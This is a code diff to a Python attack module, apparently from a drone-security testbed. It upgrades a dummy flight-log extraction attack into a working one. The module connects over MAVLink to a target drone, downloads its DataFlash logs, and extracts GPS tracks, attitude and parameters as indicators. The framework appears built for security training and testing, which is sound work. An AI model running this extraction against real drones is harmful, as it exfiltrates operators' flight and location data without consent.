@@ -1,25 +1,101 @@
 # dvd_lite/dvd_attacks/exfiltration/flight_logs.py
 """
-FlightLogExtraction 공격 (더미 구현)
+FlightLogExtraction 공격
+live=True면 LogDownloader로 대상의 로그를 내려받고, 탈취한 DataFlash(.bin) 로그를 CPU 작업 레인에서 파싱해
+GPS 궤적 / 자세 / 파라미터를 추출한 뒤 추출물을 IOC로 남긴다 (CTI 수집기로 전달).
+live도 log_path도 없으면 추출을 시뮬레이션한다.
+
+주요 파라미터 (run_attack 키워드):
+    log_path (파일 경로 또는 경로 목록)
+    live, mavlink_port, output_dir, max_logs, window, request_chunks, timeout,
+    min_transfer_rate (제한 시간 계산에 쓰는 최저 전송 속도, 바이트/초)
+
+window 기본값은 1이다 (ArduPilot은 새 요청이 진행 중인 전송을 대체함).
+요청을 순서대로 처리하는 대체 기체를 상대로 할 때만 window > 1을 지정한다.
 """
 import asyncio
-import random
+import os
+import tempfile
 from typing import Tuple, List, Dict, Any
 from ..core.attack_base import BaseAttack
 from ..core.enums import AttackType
+from ... import mavlink
+from .dataflash import parse_log_file, artifact_iocs, DataFlashError, NUMPY_AVAILABLE
+from .log_download import LogDownloader, LogDownloadError, STREAM_REQUEST_CHUNKS
+
+# 제한 시간 계산용 최저 전송 속도 (저속 텔레메트리 무선 기준, 바이트/초)
+MIN_TRANSFER_RATE = 4096
 
 class FlightLogExtraction(BaseAttack):
     """FlightLogExtraction 공격"""
-    
+
     def _get_attack_type(self) -> AttackType:
-        return AttackType.RECONNAISSANCE  # 기본값
-    
+        return AttackType.EXFILTRATION
+
     async def _run_attack(self) -> Tuple[bool, List[str], Dict[str, Any]]:
-        """더미 공격 로직"""
-        await asyncio.sleep(random.uniform(1.0, 3.0))
-        
-        success = random.random() > 0.3
+        if not NUMPY_AVAILABLE or not (self.config.get("live") or self.config.get("log_path")):
+            return await self._simulate()
+
+        iocs: List[str] = []
+        details: Dict[str, Any] = {"logs": {}, "errors": {}}
+        if self.config.get("live"):
+            paths = await self._download(iocs, details)
+        else:
+            paths = self.config["log_path"]
+            paths = [paths] if isinstance(paths, str) else list(paths)
+        if not paths:
+            details["success_rate"] = 0.0
+            return False, iocs, details
+
+        for path in paths:
+            name = os.path.basename(path)
+            try:
+                artifacts = await self.run_cpu(parse_log_file, path)
+            except (OSError, DataFlashError) as e:
+                details["errors"][name] = str(e)
+                continue
+            details["logs"][name] = artifacts
+            log_iocs = artifact_iocs(name, artifacts)
+            iocs.extend(log_iocs)
+            self.record_progress(iocs=log_iocs, logs=details["logs"])
+
+        parsed = len(details["logs"])
+        details["success_rate"] = parsed / len(paths)
+        return parsed > 0, iocs, details
+
+    async def _download(self, iocs: List[str], details: Dict[str, Any]) -> List[str]:
+        """대상 기체에서 최근 로그 다운로드 - 완전히 받은 로그 경로 목록"""
+        directory = self.config.get("output_dir") or tempfile.mkdtemp(prefix="dvd_logs_")
+        os.makedirs(directory, exist_ok=True)
+        target = (self.target_ip, self.config.get("mavlink_port", 14550))
+        async with await mavlink.MAVLinkClient.connect(target) as client:
+            downloader = LogDownloader(client, window=self.config.get("window", 1),
+                                       request_chunks=self.config.get("request_chunks", STREAM_REQUEST_CHUNKS),
+                                       timeout=self.config.get("timeout", 0.5))
+            try:
+                results = await downloader.download_all(directory, self.config.get("max_logs", 1),
+                                                        on_selected=self._extend_for_transfer)
+            except LogDownloadError as e:
+                details["errors"]["download"] = str(e)
+                return []
+
+        details["downloads"] = {os.path.basename(path): report.to_dict() for path, report in results}
+        iocs.extend(f"LOG_DOWNLOADED:{self.target_ip}:{report.log_id}:{report.received}_bytes:{report.kbps:.0f}KBps"
+                    for _, report in results)
+        self.record_progress(iocs=list(iocs), downloads=details["downloads"])
+        return [path for path, report in results if report.complete]
+
+    def _extend_for_transfer(self, entries) -> None:
+        """받을 로그 크기가 정해지면 최저 전송 속도 기준 전송 시간만큼 제한 시간 연장"""
+        total = sum(entry.size for entry in entries)
+        self.extend_deadline(total / self.config.get("min_transfer_rate", MIN_TRANSFER_RATE))
+
+    async def _simulate(self) -> Tuple[bool, List[str], Dict[str, Any]]:
+        """추출 시뮬레이션"""
+        await asyncio.sleep(self.random.uniform(1.0, 3.0))
+
+        success = self.random.random() > 0.3
         iocs = [f"FLIGHTLOGEXTRACTION_IOC:dummy_indicator"]
         details = {"success_rate": 0.7 if success else 0.2}
-        
+
         return success, iocs, details